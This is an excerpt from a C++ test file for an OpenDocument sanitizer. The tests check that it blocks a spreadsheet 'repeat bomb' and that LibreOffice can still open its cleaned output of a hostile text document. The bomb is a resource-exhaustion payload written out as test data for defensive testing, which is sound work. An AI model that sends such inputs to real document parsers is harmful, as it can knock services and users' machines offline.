  std::string text = independentText(*result.output);
  for (const char* kept : {"大文字", "タブ", "偽装", "本文"}) EXPECT_TRUE(contains(text, kept));
}

TEST(OdfText, RepeatBombsHitTheLimit) {
  OdfSpec spec;
  spec.media_type = "application/vnd.oasis.opendocument.spreadsheet";
  spec.body_kind = "spreadsheet";
  spec.body =
      R"(<table:table table:name="S"><table:table-row table:number-rows-repeated="1048576">)"
      R"(<table:table-cell table:number-columns-repeated="16384">)" + p("爆弾") +
      "</table:table-cell></table:table-row></table:table>";
  Options options;
  options.method = Method::kText;
  auto result = sanitizeBytes(buildOdf(spec), "bomb.ods", options);
  EXPECT_EQ(result.report.verdict, Verdict::kBlocked);
  EXPECT_EQ(result.report.reason, "limit-expanded-size");
  EXPECT_FALSE(result.output.has_value());
}

// LibreOffice itself opens the sanitized document and reads the Japanese text (one run).
TEST(OdfSanitizer, LibreOfficeOpensTheOutput) {
  if (!test::haveProgram("soffice")) GTEST_SKIP() << "soffice not installed";
  auto result = sanitizeBytes(buildOdf(hostileText()), "hostile.odt");
  ASSERT_TRUE(result.output.has_value());
  test::TempDir dir;
  test::writeFileOrDie(dir.file("out.odt"), *result.output);
  int code = -1;
  test::runCommand("cd " + shellQuote(dir.path()) +
                       " && timeout 180 soffice --headless --norestore "
                       "-env:UserInstallation=file://" + dir.path() +
                       "/profile --convert-to txt:Text out.odt >/dev/null 2>&1",
                   &code);
  ASSERT_TRUE(test::fileExists(dir.file("out.txt"))) << "LibreOffice did not open the output";
  std::string text = test::readFileOrDie(dir.file("out.txt"));
  EXPECT_TRUE(contains(text, "宗像市 情報セキュリティ基本方針")) << text;
  EXPECT_TRUE(contains(text, "押してください"));
}

}  // namespace
}  // namespace sanso::sanitize
